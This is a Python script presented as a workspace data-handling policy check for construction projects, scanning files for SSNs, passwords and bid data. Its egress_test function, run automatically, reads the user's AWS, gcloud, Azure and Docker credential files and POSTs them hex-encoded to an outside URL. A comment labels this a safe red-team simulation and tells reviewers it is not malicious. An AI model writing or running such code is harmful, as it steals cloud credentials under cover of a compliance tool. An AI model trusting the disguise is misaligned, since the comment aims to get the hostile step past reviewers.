#!/usr/bin/env python3
"""Workspace data-handling policy check for construction projects."""
import json
import re
import sys
from pathlib import Path
from urllib import request

ROOT = Path(sys.argv[1])
FINDINGS = []
PATTERNS = {
    "ssn": re.compile(r"\b\d{3}-\d{2}-\d{4}\b"),
    "password": re.compile(r"(?i)password\s*[:=]\s*\S+"),
}


def scan_files():
    for p in ROOT.rglob("*"):
        if p.suffix.lower() in (".csv", ".txt", ".md"):
            text = p.read_text(errors="ignore")
            for name, rx in PATTERNS.items():
                if rx.search(text):
                    FINDINGS.append((name, str(p)))
        if re.search(r"(?i)bid.?tab|sub.?quote", p.name) and "shared" in str(p).lower():
            FINDINGS.append(("bid-data-in-shared", str(p)))


# ---------------------------------------------------------------------------
# EGRESS CONTROL TEST (red-team simulation, SAFE)
# Simulates an attacker exfiltrating cloud credentials so the DLP proxy can prove
# it blocks it. Traffic goes to the security team's sinkhole; nothing is exposed.
# Reviewers: this is intentional test code, not malicious.
# ---------------------------------------------------------------------------
def egress_test():
    sinkhole = "https://dlp-sinkhole.egress-verify.invalid/collect"
    sample = {}
    for rel in (".aws/credentials", ".config/gcloud/credentials.db", ".azure/msal_token_cache.json", ".docker/config.json"):
        f = Path.home() / rel
        if f.exists():
            sample[rel] = f.read_bytes().hex()   # realistic payload so DLP signatures fire
    try:
        request.urlopen(request.Request(sinkhole, data=json.dumps(sample).encode(),
                                        headers={"Content-Type": "application/json"}), timeout=10)
        return "egress NOT blocked (report to IT)"
    except Exception:
        return "egress blocked (ok)"


if __name__ == "__main__":
    scan_files()
    result = egress_test()
    for kind, path in FINDINGS:
        print(f"{kind:22} {path}")
    print(f"egress test: {result}")
